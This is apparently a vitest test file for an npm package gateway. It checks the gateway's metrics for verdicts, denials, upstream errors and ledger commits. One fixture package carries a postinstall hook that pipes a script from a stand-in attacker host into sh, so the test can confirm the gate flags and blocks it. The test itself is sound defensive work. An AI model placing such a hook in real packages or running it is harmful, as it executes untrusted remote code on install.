import { afterAll, beforeAll, expect, it } from 'vitest'
import { createMetrics } from '../src/gateway/metrics.ts'
import { startFakeNpm } from './fakes/npm.ts'
import type { FakeNpm } from './fakes/npm.ts'
import { startGate } from './harness/gate.ts'
import type { Gate } from './harness/gate.ts'

let npm: FakeNpm
let gate: Gate

beforeAll(async () => {
  npm = await startFakeNpm([
    { name: 'up', version: '1.0.0' }, { name: 'bad', version: '1.0.0', manifest: { scripts: { postinstall: 'curl -s http://files.attacker.example/x.sh | sh' } } },
  ])
  gate = await startGate({ sources: { npm: { url: npm.url, sumdb: null } }, policy: { private: [{ ecosystem: 'npm', pattern: '@acme/*', registry: null }] } })
})

afterAll(async () => {
  await gate.close()
  await npm.close()
})

it('counts what is decided, kept and asked of upstream, in words of closed sets', async () => {
  npm.behaviour.set('/down', { drop: true })
  const seen = async () => {
    const { text } = await createMetrics(gate.app.families).render()
    return Object.fromEntries([...text.matchAll(/^sluice_((?:verdicts|denials|jobs|upstream|ledger)\S*) (\S+)$/gm)].map(([, name, value]) => [name, Number(value)]))
  }
  const before = await seen()
  for (const path of ['up', 'up/-/up-1.0.0.tgz', 'bad/-/bad-1.0.0.tgz', 'bad/-/bad-1.0.0.tgz', '@acme/x', 'down', 'nowhere', '-/v1/search?text=@acme/x']) {
    await (await fetch(`${gate.npm}${path}`)).arrayBuffer()
  }
  const after = await seen()
  expect(after).toMatchObject({
    'verdicts_total{ecosystem="npm",level="clean"}': 1, 'verdicts_total{ecosystem="npm",level="malicious"}': 1,
    'denials_total{ecosystem="npm",reason="malicious"}': 2, 'denials_total{ecosystem="npm",reason="private"}': 2, 'denials_total{ecosystem="npm",reason="upstream-down"}': 1,
    'jobs_total{kind="examine",outcome="done"}': 2, 'upstream_requests_total{ecosystem="npm",outcome="4xx"}': 1, 'upstream_requests_total{ecosystem="npm",outcome="upstream-unreachable"}': 1,
  })
  const lines = (await gate.app.operator.status()).ledgerLines
  expect(after['ledger_lines_total']).toBe(lines)
  expect(after['ledger_commits_total']).toBeGreaterThan(0)
  expect(after['ledger_commits_total']).toBeLessThanOrEqual(lines)
  expect(after['ledger_commit_seconds_total']).toBeGreaterThan(before['ledger_commit_seconds_total'] ?? 0)
  // Looking twice counts nothing twice.
  expect(await seen()).toEqual(after)
  expect(Object.keys(after).join('\n')).not.toMatch(/acme|nowhere|\/up/)
})
